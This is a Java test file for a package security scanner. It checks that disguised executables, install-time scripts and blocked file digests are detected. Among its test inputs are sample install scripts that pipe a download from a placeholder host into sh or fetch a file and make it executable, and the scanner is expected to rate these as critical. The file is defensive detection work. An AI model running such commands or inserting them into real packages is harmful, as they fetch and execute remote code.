package dev.pluginsuite.validation.scancheck;

import static dev.pluginsuite.api.validation.SecurityFinding.Level.CRITICAL;
import static dev.pluginsuite.api.validation.SecurityFinding.Level.HIGH;
import static dev.pluginsuite.api.validation.SecurityFinding.Level.LOW;
import static dev.pluginsuite.api.validation.SecurityFinding.Level.MEDIUM;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.pluginsuite.api.validation.SecurityFinding.Level;
import dev.pluginsuite.validation.Mpk;
import dev.pluginsuite.validation.scanning.Scanned;
import dev.pluginsuite.validation.scanning.ShippedScan;
import dev.pluginsuite.validation.scanrule.InvalidRules;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.commons.compress.archivers.tar.TarConstants;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class ScanChecksTest {
  private static final byte[] ELF = head(0x7F, 'E', 'L', 'F', 2, 1, 1, 0);
  private static final byte[] PE = head('M', 'Z', 0x90, 0, 3, 0, 0, 0);
  private static final byte[] MACH_O = head(0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1);
  private static final byte[] FAT_MACH_O = head(0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2);
  private static final byte[] JAVA = head(0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 61);
  private static final byte[] WASM = head(0, 'a', 's', 'm', 1, 0, 0, 0);
  private static final byte[] PNG = head(0x89, 'P', 'N', 'G', 13, 10, 26, 10);
  private static final byte[] ZIP = head('P', 'K', 3, 4, 20, 0, 0, 0);

  @TempDir Path folder;

  static Stream<Arguments> binaries() {
    return Stream.of(
        Arguments.of("bin/tool", ELF, "native-program", HIGH, MEDIUM),
        Arguments.of("bin/tool.exe", PE, "native-program", HIGH, MEDIUM),
        Arguments.of("build/a.node", MACH_O, "native-program", HIGH, MEDIUM),
        Arguments.of("build/b.node", FAT_MACH_O, "native-program", HIGH, MEDIUM),
        Arguments.of("a.wasm", WASM, "native-web-assembly", MEDIUM, LOW),
        Arguments.of("A.class", JAVA, "native-java-class", MEDIUM, LOW),
        Arguments.of("logo.png", ELF, "kind-hidden-program", CRITICAL, CRITICAL),
        Arguments.of("data.json", PE, "kind-hidden-program", CRITICAL, CRITICAL),
        Arguments.of("logo.png", ZIP, "kind-hidden-content", HIGH, MEDIUM),
        Arguments.of(
            "logo.png", "#!/bin/sh\n".getBytes(UTF_8), "kind-hidden-content", HIGH, MEDIUM),
        Arguments.of("logo.png", "hello".getBytes(UTF_8), "kind-mismatch", LOW, LOW),
        Arguments.of("a.js", ZIP, "kind-no-text", MEDIUM, LOW));
  }

  @ParameterizedTest
  @MethodSource("binaries")
  void what_a_file_is_shows_in_its_first_bytes(
      String path, byte[] content, String rule, Level own, Level library) {
    assertThat(scan(path, content).level(rule)).isEqualTo(own);
    assertThat(scan("node_modules/x/" + path, content).level(rule)).isEqualTo(library);
  }

  @Test
  void honest_files_are_not_found() {
    assertThat(scan("logo.png", PNG).findings()).isEmpty();
    assertThat(scan("favicon.ico", PNG).findings()).isEmpty();
    assertThat(scan("data.zip", ZIP).findings()).isEmpty();
    assertThat(scan("bin/cli.js", "#!/usr/bin/env node\n".getBytes(UTF_8)).findings()).isEmpty();
    assertThat(scan("MZ.txt", "MZ is a country code.".getBytes(UTF_8)).findings()).isEmpty();
    assertThat(scan("a.js", "BM = 1; // größer".getBytes(UTF_8)).findings()).isEmpty();
    assertThat(scan("empty.png", new byte[0]).findings()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      value = {
        "postinstall~ node build.js~ install-script~ HIGH",
        "install~ node-gyp rebuild~ install-script-build~ MEDIUM",
        "install~ prebuild-install -r napi || node-gyp rebuild~ install-script-build~ MEDIUM",
        "install~ node-gyp rebuild; rm -rf x~ install-script~ HIGH",
        "prepare~ husky install~ install-script-prepare~ LOW",
        "preinstall~ curl -s https://a.example/i.sh | sh~ install-script-harmful~ CRITICAL",
        "postinstall~ node -e \"require('child_process')\"~ install-script-harmful~ CRITICAL",
        "postinstall~ wget -q a.example/x && chmod +x x~ install-script-harmful~ CRITICAL",
      })
  void scripts_that_run_at_installation_are_found(
      String step, String script, String rule, Level level) {
    var json =
        "{\"name\": \"supplier-risk\", \"scripts\": {\"%s\": \"%s\", \"test\": \"jest\"}}"
            .formatted(step, script.replace("\"", "\\\""));

    var scanned = Scanned.file("package.json", json);

    assertThat(scanned.rules()).containsExactly(rule);
    assertThat(scanned.level(rule)).isEqualTo(level);
    assertThat(scanned.findings().get(0).message()).contains(step);
  }

  @Test
  void the_scripts_of_published_packages_do_not_stop_a_submission() {
    var json =
        """
        {"name": "core-js", "version": "3.37.0",
         "scripts": {"postinstall": "node -e \\"try{require('./postinstall')}catch(e){}\\""}}""";

    assertThat(Scanned.file("node_modules/core-js/package.json", json).level("install-script"))
        .isEqualTo(MEDIUM);
  }

  @Test
  void blocked_packages_and_files_stop_a_submission() throws IOException {
    var mpk = Mpk.good().file("dist/bad.js", "bad").bytes();
    var list = folder.resolve("blocked");
    var digests = Mpk.sha256("bad".getBytes(UTF_8)) + "  worm of May\n" + Mpk.sha256(mpk);
    Files.writeString(list, "# by central IT\n\n" + digests + "\n");

    var scanned = Scanned.of(ShippedScan.scanner(BlockedDigests.read(list)), mpk, null);

    assertThat(scanned.rules()).containsExactly("digest-blocked-file", "digest-blocked-package");
    assertThat(scanned.findings().get(0).message()).isEqualTo("The file is blocked: worm of May");
    assertThat(scanned.findings().get(0).file()).isEqualTo("dist/bad.js");
    assertThat(scanned.result().stops()).isTrue();
  }

  @Test
  void a_list_of_digests_with_a_slip_of_the_pen_is_told() throws IOException {
    var list = Files.writeString(folder.resolve("blocked"), "abc worm\n");

    assertThatThrownBy(() -> BlockedDigests.read(list))
        .isInstanceOf(InvalidRules.class)
        .hasMessageContaining("64 hex digits: abc worm");
    assertThat(new BlockedDigestsCheck(new BlockedDigests(Map.of())).reasonToSkip())
        .isEqualTo("Nothing is blocked.");
  }

  private static Scanned scan(String path, byte[] content) {
    var mpk = Mpk.good().entry(path, TarConstants.LF_NORMAL, content, it -> {});
    return Scanned.of(ShippedScan.scanner(), mpk);
  }

  private static byte[] head(int... first) {
    var bytes = new byte[200];
    for (var i = 0; i < first.length; i++) {
      bytes[i] = (byte) first[i];
    }
    return bytes;
  }
}
